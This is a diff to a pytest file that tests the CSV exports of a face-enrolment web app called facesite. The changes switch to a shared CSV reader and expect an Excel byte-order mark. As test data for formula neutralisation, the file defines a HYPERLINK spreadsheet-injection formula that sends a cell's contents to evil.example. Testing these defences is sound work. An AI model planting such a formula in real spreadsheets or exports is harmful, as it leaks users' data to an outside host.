@@ -3,8 +3,6 @@ every export streams row by row and is written to the security log, and the list
 carry only their own filters."""
 from __future__ import annotations
 
-import csv
-import io
 import re
 
 import pytest
@@ -12,6 +10,7 @@ import pytest
 from facesite.extensions import db
 from facesite.models import Enrolment, SecurityEvent, VendorCall
 from facesite.spreadsheets import csv_safe
+from tests.batch_files import read_csv
 from tests.conftest import EnrolPage, face, make_app, sign_in
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -24,7 +23,7 @@ HARMLESS = ["Ana Lima", "O'Neil", "a=b", "x-1", "", "1 + 1", "Zoë @ home"]
 
 def read(response) -> list[dict]:
     assert response.status_code == 200 and response.mimetype == "text/csv"
-    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
+    return read_csv(response.get_data())
 
 
 def assert_neutralised(cell: str, typed: str):
@@ -108,7 +107,7 @@ def test_the_register_export_streams_row_by_row(sandbox, request, database):
     assert response.headers["Content-Disposition"] == 'attachment; filename="facesite-register.csv"'
     chunks = list(response.response)
     assert len(chunks) == count + 1  # the header, then one chunk per enrolment
-    assert chunks[0].decode().startswith("id,face_id,face_set_id")
+    assert chunks[0].decode().startswith("\ufeffid,face_id,face_set_id")  # the mark Excel needs, then the header
     assert exports_recorded(app) == ["register"]
 
 
